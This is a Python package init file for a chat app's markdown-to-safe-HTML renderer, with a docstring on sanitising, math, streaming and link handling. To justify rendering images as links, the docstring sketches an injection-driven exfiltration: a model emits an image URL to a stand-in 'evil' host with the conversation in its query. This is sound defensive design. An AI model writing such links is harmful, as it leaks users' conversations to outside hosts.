"""Markdown -> safe HTML: the one renderer for every message, title preview and export.

CommonMark with tables, strikethrough, bare-URL links (linkify), task lists, footnotes and
math (`$…$`, `$$…$$`, `\\(…\\)`, `\\[…\\]`, `\\begin{align}…`), raw HTML disabled, fenced
code highlighted by Pygments (CSS classes, no inline styles), then an allow-list sanitiser
(nh3) over the result. The sanitiser is the last word: whatever the parser lets through,
no `on*`, `hx-*`, `ws-*`, `style` or `id` attribute and no script-capable element survives.

Math is typeset here, on the server, to MathML (latex2mathml): browsers render MathML Core
natively, so no client-side renderer and no relaxed CSP. LaTeX that does not convert is
shown as code. Model headings are demoted two levels (`#` -> h3) so they never compete
with the page's own headings. Links open in a new tab with rel="noopener noreferrer nofollow".

Images are rendered as links: a model can be talked into writing `![](https://evil/?q=...)`
to leak the conversation through an image fetch, and a link needs a click.

Text is rendered as a list of top-level blocks (`render_blocks`). The page wraps code
blocks in its own chrome (language label, Copy button) from a template, and the streaming
view (`StreamRender`) renders each completed block once and only re-renders the last,
still-open one: both paths cut the text at the same block boundaries, so a streamed answer
ends up exactly as a reload shows it.

The package, by stage: `markdown` (the parser and code highlighting), `math` (LaTeX to
MathML), `links` (bare-URL detection), `sanitize` (the allow-list), `blocks` (top-level
blocks, the one entry point), `stream` (the streaming view), `artifacts` (which blocks
preview). Callers import from `numi.render`.
"""

from .artifacts import Artifact, artifact_kind, refusal, too_large
from .blocks import (
    DEFAULT_MARKDOWN_MAX_CHARS,
    Block,
    artifacts,
    cite,
    markdown_cap,
    plain_block,
    render_blocks,
    render_markdown,
)
from .markdown import highlight_css
from .sanitize import MATHML_TAGS, sanitize
from .stream import Frame, StreamRender

__all__ = [
    "Artifact",
    "Block",
    "DEFAULT_MARKDOWN_MAX_CHARS",
    "Frame",
    "MATHML_TAGS",
    "StreamRender",
    "artifact_kind",
    "artifacts",
    "cite",
    "highlight_css",
    "markdown_cap",
    "plain_block",
    "refusal",
    "render_blocks",
    "render_markdown",
    "sanitize",
    "too_large",
]
